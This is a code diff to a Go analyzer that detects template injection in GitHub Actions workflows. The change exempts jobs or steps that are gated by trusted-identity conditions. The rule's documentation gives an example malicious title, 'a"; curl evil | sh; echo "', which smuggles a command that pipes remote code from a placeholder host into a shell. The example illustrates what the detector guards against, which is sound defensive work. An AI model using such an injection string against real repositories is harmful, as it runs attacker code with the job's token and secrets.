@@ -18,7 +18,10 @@ var templateInjection = finding.Rule{
 	Doc: "A `${{ }}` expression whose value an outsider writes is expanded into a `run:` script or\n" +
 		"a `github-script` `script:` — for every step, AI or not. GitHub substitutes the text before\n" +
 		"the shell (or Node) parses the script, so a title like `a\"; curl evil | sh; echo \"` runs as\n" +
-		"commands with the job's token and secrets. Sources: outsider-written event fields\n" +
+		"commands with the job's token and secrets. A job or step whose condition (or a needed\n" +
+		"job's) admits only trusted writers — an actor, an OWNER/MEMBER/COLLABORATOR association,\n" +
+		"the same repository, a trusted event — is not flagged; a label or an environment approval\n" +
+		"is not enough (the approver may not see a hostile branch name). Sources: outsider-written event fields\n" +
 		"(issue, PR, comment, review and discussion titles and bodies, branch names, commit\n" +
 		"messages and authors, `workflow_run` branch and title), whole event objects\n" +
 		"(`toJSON(github.event.issue)`), `env.X` set from them, and outputs of earlier steps (or,\n" +
@@ -253,8 +256,11 @@ func checkTemplateInjection(a *analysis) {
 		// and an output is only followed into jobs listed after it.
 		for _, j := range p.Jobs {
 			t := newJobTaint(j, jobOuts)
+			guarded := identityGuarded(j, nil)
 			for _, s := range j.AllSteps() {
-				a.injectStep(s, t.withStepEnv(s), sev, trig)
+				if !guarded && !identityGuarded(j, s) {
+					a.injectStep(s, t.withStepEnv(s), sev, trig)
+				}
 				if s.Origin == nil {
 					a.addStep(t, s)
 				}
